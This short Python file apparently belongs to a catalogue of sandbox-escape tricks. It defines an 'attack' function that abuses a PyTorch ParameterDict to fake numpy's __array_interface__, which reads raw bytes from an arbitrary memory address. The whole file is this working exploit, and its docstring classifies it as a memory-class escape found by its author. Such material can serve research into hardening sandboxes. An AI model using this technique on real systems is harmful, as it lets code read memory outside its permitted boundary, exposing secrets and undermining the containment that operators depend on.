"""Class: memory. Source: own find. Escape: ParameterDict sets any attribute by item."""

import numpy as np
from torch import nn


def attack(model, tokenizer, address):
    d = nn.ParameterDict()
    d["__array_interface__"] = {
        "shape": (6,),
        "typestr": "|u1",
        "data": (address, True),
        "version": 3,
    }
    return (np.zeros(6, dtype=np.uint8) | d).tobytes()
